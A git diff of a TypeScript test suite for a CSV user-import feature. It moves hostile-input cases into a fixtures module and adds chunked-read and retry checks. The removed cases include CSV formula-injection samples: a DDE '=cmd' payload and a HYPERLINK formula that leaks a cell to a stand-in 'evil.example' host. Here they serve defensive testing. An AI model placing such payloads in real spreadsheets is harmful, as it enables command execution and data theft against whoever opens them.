@@ -1,321 +1,14 @@
 import assert from "node:assert/strict";
-import { readFileSync } from "node:fs";
 import type { IncomingMessage, ServerResponse } from "node:http";
-import { resolve } from "node:path";
+import { Readable } from "node:stream";
 import { after, before, describe, test } from "node:test";
 import type { ActionRow } from "../../runner/engine/actions.ts";
+import { openCsv } from "../../runner/engine/csv.ts";
 import { isBulkrunError, type ErrorCode } from "../../runner/errors.ts";
+import { CASES, created, fixture, FIXTURE_FILES, type Applied, type Refused, type User } from "../fixtures/hostile/cases.ts";
 import { finished, ledger, newAccount, submitCsv, users } from "../helpers/actions.ts";
 import { httpServer } from "../helpers/http.ts";
 import { testRuntime, type TestRuntime } from "../helpers/runtime.ts";
-
-const FIXTURES = resolve(import.meta.dirname, "../fixtures/hostile");
-const fixture = (name: string) => readFileSync(resolve(FIXTURES, name));
-
-/** One ledger entry: row number, outcome, and the reason when there is one. */
-type Entry = [row: number, outcome: string, error?: string];
-type User = [email: string, name: string | null, phone: string | null];
-
-/** The file is read: these rows and users, these warnings. */
-interface Applied {
-  ledger: Entry[];
-  users: User[];
-  warnings?: string[];
-}
-/** The file is refused before anything is applied. */
-interface Refused {
-  code: ErrorCode;
-  message: string;
-}
-interface Case {
-  name: string;
-  bytes: () => Buffer;
-  expect: Applied | Refused;
-}
-
-const created = (row: number): Entry => [row, "created"];
-const invalid = (row: number, error: string): Entry => [row, "invalid", error];
-const notUtf8 = (column: string) => `column \`${column}\` is not UTF-8 text: save the file as "CSV UTF-8" (Windows-1252 and Latin-1 are not accepted)`;
-const NOT_TEXT: Refused = {
-  code: "BULKRUN_ERR_NOT_CSV",
-  message:
-    "the file is not a CSV: it contains NUL bytes, which text files never do. " +
-    'Export it as "CSV UTF-8 (comma delimited)"; Excel workbooks (.xlsx), UTF-16 text and compressed files are not accepted',
-};
-const EMPTY: Refused = { code: "BULKRUN_ERR_CSV_EMPTY", message: "the file is empty: expected a header row such as `name,email,phone`" };
-const noEmail = (found: string): Refused => ({
-  code: "BULKRUN_ERR_CSV_HEADER",
-  message: `the CSV header has no \`email\` column (found: ${found}); users.import needs email and reads email, name, phone`,
-});
-const MEGABYTE = 1_000_000;
-
-const CASES: Case[] = [
-  {
-    name: "a UTF-8 byte-order mark",
-    bytes: () => fixture("bom.csv"),
-    expect: { ledger: [created(1), created(2)], users: [["ada@example.com", "Ada Lovelace", "+442079460018"], ["bo@example.com", "Bo", null]] },
-  },
-  {
-    name: "CRLF line ends",
-    bytes: () => fixture("crlf.csv"),
-    expect: {
-      ledger: [created(1), created(2), invalid(3, "email `not-an-email` is not an email address")],
-      users: [["ada@example.com", "Ada", "0123456789"], ["bo@example.com", "Bo", null]],
-    },
-  },
-  {
-    name: "CR-only line ends, a CR inside quotes and no line end at the end",
-    bytes: () => fixture("cr-only.csv"),
-    expect: {
-      ledger: [created(1), created(2), created(3)],
-      users: [["ada@example.com", "Ada", null], ["bo@example.com", "Bo\rBobson", null], ["cy@example.com", "Cy", null]],
-    },
-  },
-  {
-    name: "quoted fields holding commas, doubled quotes and line breaks",
-    bytes: () => fixture("quoted.csv"),
-    expect: {
-      ledger: [created(1), created(2), created(3), created(4), created(5)],
-      users: [
-        ["combo@example.com", 'Comma, "and" quote', null],
-        ["empty-name@example.com", null, null],
-        ["hi@example.com", 'Say "hi"', "+15550100200"],
-        ["multi@example.com", "multi\nline\r\nname", null],
-        ["smith@example.com", "Smith, Jr.", null],
-      ],
-    },
-  },
-  {
-    name: "unicode and emoji; emails that Postgres's lower() takes for one (İ, final Σ); invisible and control characters",
-    bytes: () => fixture("unicode.csv"),
-    expect: {
-      ledger: [
-        created(1),
-        created(2),
-        created(3),
-        created(4),
-        [5, "duplicate_in_file", "row 6 has the same key (ayşei@example.com); the last row wins"],
-        created(6),
-        [7, "duplicate_in_file", "row 8 has the same key (οδυσσεασ@example.gr); the last row wins"],
-        created(8),
-        invalid(9, "email contains an invisible character (U+200B) after `zw`"),
-        invalid(10, "name contains a control character (U+001B)"),
-      ],
-      users: [
-        ["ayşei@example.com", "Ayşe Two", null],
-        ["emoji@example.com", "🙂 Emoji 👍🏽 Family 👨‍👩‍👧", null],
-        ["li@example.com", "李小龍", null],
-        ["zoë@example.com", "Zoë Ærø", null],
-        ["ΕΛΕΝΗ@example.gr", "Ελένη", null],
-        ["οδυσσεασ@example.gr", "Greek Two", null],
-      ],
-    },
-  },
-  {
-    name: "bytes that are not UTF-8 in read and in ignored columns",
-    bytes: () => fixture("invalid-utf8.csv"),
-    expect: {
-      ledger: [created(1), invalid(2, notUtf8("name")), created(3), invalid(4, notUtf8("email")), invalid(5, notUtf8("name"))],
-      users: [["good@example.com", "Good", null], ["ok2@example.com", "Ok Two", null]],
-      warnings: ["ignored unknown columns: notes"],
-    },
-  },
-  {
-    name: "a file saved as Windows-1252",
-    bytes: () => fixture("windows-1252.csv"),
-    expect: {
-      ledger: [invalid(1, notUtf8("name")), created(2), invalid(3, notUtf8("name")), invalid(4, notUtf8("name")), created(5)],
-      users: [["ada@example.com", "Plain Ada", null], ["bo@example.com", "Plain Bo", null]],
-    },
-  },
-  {
-    name: "rows with too few, too many (up to 100) and only empty cells",
-    bytes: () => fixture("columns.csv"),
-    expect: {
-      ledger: [
-        created(1),
-        invalid(2, "the row has 2 cells but the header has 3"),
-        invalid(3, "the row has 4 cells but the header has 3"),
-        invalid(4, "the row has 100 cells but the header has 3"),
-        invalid(5, "the row has 1 cell but the header has 3"),
-        invalid(6, "email is empty"),
-        created(7),
-      ],
-      users: [["ok@example.com", "Ok", "0123456789"], ["ok2@example.com", "Ok Two", null]],
-    },
-  },
-  {
-    name: "duplicate header names: the first column of a name is read",
-    bytes: () => fixture("duplicate-header.csv"),
-    expect: {
-      ledger: [created(1), invalid(2, "email is empty")],
-      users: [["first@example.com", "First Name", null]],
-      warnings: [
-        "column `email` appears more than once in the header; the first one is used",
-        "column `name` appears more than once in the header; the first one is used",
-      ],
-    },
-  },
-  { name: "a header and no rows", bytes: () => fixture("header-only.csv"), expect: { ledger: [], users: [] } },
-  { name: "an empty file", bytes: () => fixture("empty.csv"), expect: EMPTY },
-  { name: "a file of a BOM, spaces and line breaks", bytes: () => fixture("blank.csv"), expect: EMPTY },
-  { name: "a PNG image", bytes: () => fixture("binary.png"), expect: NOT_TEXT },
-  { name: "a ZIP archive", bytes: () => fixture("binary.zip"), expect: NOT_TEXT },
-  { name: "UTF-16 text", bytes: () => fixture("utf16.csv"), expect: NOT_TEXT },
-  {
-    name: "a semicolon-delimited file with commas in its cells",
-    bytes: () => fixture("semicolon.csv"),
-    expect: {
-      ledger: [created(1), created(2), invalid(3, "email `nope` is not an email address")],
-      users: [["ada@example.com", "Smith, Ada", "0123456789"], ["bo@example.com", "Bo", null]],
-      warnings: ["ignored unknown columns: E-Mail"],
-    },
-  },
-  {
-    name: "a semicolon-delimited file whose quoted header holds a comma",
-    bytes: () => fixture("quoted-semicolon-header.csv"),
-    expect: { ledger: [created(1)], users: [["ada@example.com", null, null]], warnings: ["ignored unknown columns: Last, first"] },
-  },
-  { name: "a tab-separated file", bytes: () => fixture("tab-separated.csv"), expect: noEmail("name\\u0009email\\u0009phone") },
-  {
-    name: "spaces, tabs and no-break spaces around emails and other cells",
-    bytes: () => fixture("spaces.csv"),
-    expect: {
-      ledger: [created(1), created(2), created(3), created(4), created(5)],
-      users: [
-        ["ada@example.com", "Ada", null],
-        ["nbsp@example.com", "Nbsp", null],
-        ["quoted@example.com", "Quoted", null],
-        ["spacey@example.com", "Spacey Name", "0123456789"],
-        ["TAB@example.com", "Tab", null],
-      ],
-    },
-  },
-  {
-    name: "the same email in mixed case and with spaces: the last row wins",
-    bytes: () => fixture("case-duplicates.csv"),
-    expect: {
-      ledger: [
-        [1, "duplicate_in_file", "row 4 has the same key (ada@example.com); the last row wins"],
-        [2, "duplicate_in_file", "row 5 has the same key (bob@example.com); the last row wins"],
-        [3, "duplicate_in_file", "row 4 has the same key (ada@example.com); the last row wins"],
-        created(4),
-        created(5),
-      ],
-      users: [["ada@example.com", "Third", null], ["BOB@example.com", "Bob Again", null]],
-    },
-  },
-  {
-    name: "formula-looking cells are stored as they are",
-    bytes: () => fixture("formulas.csv"),
-    expect: {
-      ledger: [
-        created(1),
-        created(2),
-        created(3),
-        created(4),
-        created(5),
-        created(6),
-        invalid(7, "phone `=1+2` is not a phone number: use 7 to 15 digits, optionally with a leading +"),
-      ],
-      users: [
-        ["=1+2@example.com", "=1+2", null],
-        ["at@example.com", "@x", null],
-        ["dde@example.com", "=cmd|' /C calc'!A0", null],
-        ["hyperlink@example.com", '=HYPERLINK("http://evil.example/?leak="&A1,"click")', null],
-        ["minus@example.com", "-2", null],
-        ["plus@example.com", "+1", null],
-      ],
-    },
-  },
-  {
-    name: "NUL bytes inside fields",
-    bytes: () => fixture("nul.csv"),
-    expect: {
-      ledger: [created(1), invalid(2, "column `name` contains a NUL byte"), created(3), invalid(4, "column `email` contains a NUL byte")],
-      users: [["ada@example.com", "Ada", null], ["bo@example.com", "Bo", null]],
-    },
-  },
-  {
-    name: "a quote that is never closed",
-    bytes: () => fixture("unclosed-quote.csv"),
-    expect: {
-      code: "BULKRUN_ERR_NOT_CSV",
-      message:
-        'the file is not a readable CSV: data row 2 opens a double quote (") that is never closed, which would make ' +
-        'the rest of the file one field. Close the quote, or double it ("") where it is part of the text',
-    },
-  },
-  {
-    name: "text after the closing quote of a field",
-    bytes: () => fixture("text-after-quote.csv"),
-    expect: {
-      code: "BULKRUN_ERR_NOT_CSV",
-      message:
-        "the file is not a readable CSV: data row 2 has text after the closing double quote of a field. " +
-        'Quote the whole field and double the quotes inside it, e.g. "Ada ""the dev"" Lovelace"',
-    },
-  },
-  {
-    name: "quotes inside unquoted fields are text",
-    bytes: () => fixture("stray-quote.csv"),
-    expect: { ledger: [created(1), created(2)], users: [["ada@example.com", 'Ada "the dev" Lovelace', null], ["bo@example.com", 'Bo"', null]] },
-  },
-  {
-    name: "a 100-column header with the email last",
-    bytes: () => fixture("wide-header.csv"),
-    expect: {
-      ledger: [created(1)],
-      users: [["wide@example.com", null, null]],
-      warnings: ["ignored unknown columns: col1, col2, col3, col4, col5, col6, col7, col8, col9, col10 and 89 more"],
-    },
-  },
-  {
-    name: "header columns without a name",
-    bytes: () => fixture("empty-column-name.csv"),
-    expect: { ledger: [created(1)], users: [["ada@example.com", "Ada", null]], warnings: ["ignored unknown columns: (unnamed column 2), (unnamed column 4)"] },
-  },
-  {
-    name: "invisible characters and a NUL in header names",
-    bytes: () => fixture("invisible-header.csv"),
-    expect: { ledger: [created(1)], users: [["ada@example.com", "Ada", null]], warnings: ["ignored unknown columns: x\\u0001y"] },
-  },
-  { name: "a header without an email column", bytes: () => fixture("no-email-column.csv"), expect: noEmail("name, e-mail address, phone") },
-  { name: "an HTML page", bytes: () => fixture("html.csv"), expect: noEmail("<!DOCTYPE html>") },
-  {
-    name: "blank lines and lines of spaces are not rows",
-    bytes: () => fixture("blank-lines.csv"),
-    expect: { ledger: [created(1), created(2)], users: [["ada@example.com", "Ada", null], ["bo@example.com", "Bo", null]] },
-  },
-  {
-    name: "1 MB fields in a read column, an ignored column and the email",
-    bytes: () =>
-      Buffer.from(
-        `name,email,notes\n${"x".repeat(MEGABYTE)},big-name@example.com,\nAda,ada@example.com,${"n".repeat(MEGABYTE)}\n` +
-          `Bo,${"e".repeat(MEGABYTE - 12)}@example.com,\nCy,cy@example.com,\n`,
-      ),
-    expect: {
-      ledger: [
-        invalid(1, `name is ${MEGABYTE} characters long; at most 200 are allowed`),
-        created(2),
-        invalid(3, `email is ${MEGABYTE} characters long; at most 254 are allowed`),
-        created(4),
-      ],
-      users: [["ada@example.com", "Ada", null], ["cy@example.com", "Cy", null]],
-      warnings: ["ignored unknown columns: notes"],
-    },
-  },
-  {
-    name: "a field longer than 1 MiB",
-    bytes: () => Buffer.from(`name,email\nAda,ada@example.com\n${"x".repeat(2 * 1024 * 1024)},x@example.com\nCy,cy@example.com\n`),
-    expect: {
-      code: "BULKRUN_ERR_NOT_CSV",
-      message:
-        "the file is not a readable CSV: data row 2 is longer than 1 MiB. " +
-        'Look for a double quote (") that is opened but never closed near that row; fields longer than 1 MiB are not accepted',
-    },
-  },
-];
 
 let ctx: TestRuntime;
 let web: Awaited<ReturnType<typeof httpServer>>;
@@ -514,7 +207,7 @@ describe("URL sources that fail", () => {
   test("a 503 on every attempt fails the action after the retries", () =>
     assertGaveUp("/unavailable.csv", "BULKRUN_ERR_URL_UNAVAILABLE", "GET URL answered HTTP 503 (gave up after 3 attempts)", 3));
 
-  for (const [path, what] of [["/recovers.csv", "breaks off twice"], ["/throttled.csv", "answers 429 once"]] as const) {
+  for (const [path, what, attempts] of [["/recovers.csv", "breaks off twice", 3], ["/throttled.csv", "answers 429 once", 2]] as const) {
     test(`a URL that ${what} and then answers imports every row exactly once`, async () => {
       const account = await newAccount(ctx);
       requests = {};
@@ -525,7 +218,31 @@ describe("URL sources that fail", () => {
         users: [["ada@example.com", "Ada", null], ["bo@example.com", "Bo", null]],
       });
       assert.equal(action.error, null);
-      assert.deepEqual(seenOnRetry, Array(requests[path]! - 1).fill(NOTHING_STAGED));
+      assert.equal(requests[path], attempts);
+      assert.deepEqual(seenOnRetry, Array(attempts - 1).fill(NOTHING_STAGED));
+    });
+  }
+});
+
+/** What the reader makes of bytes arriving in pieces of `size`: the header and rows, or its error. */
+async function read(bytes: Buffer, size: number) {
+  const pieces: Buffer[] = [];
+  for (let at = 0; at < bytes.length; at += size) pieces.push(bytes.subarray(at, at + size));
+  try {
+    const reader = await openCsv(Readable.from(pieces, { objectMode: false }));
+    const rows: string[][] = [];
+    for await (const batch of reader.batches) rows.push(...batch);
+    return { header: reader.header, rows };
+  } catch (error) {
+    return { error: String(error) };
+  }
+}
+
+describe("every file reads the same however its bytes are split", () => {
+  for (const file of FIXTURE_FILES) {
+    test(file, async () => {
+      const whole = await read(fixture(file), Infinity);
+      for (const size of [1, 2, 3, 5, 64]) assert.deepEqual(await read(fixture(file), size), whole, `pieces of ${size} bytes`);
     });
   }
 });
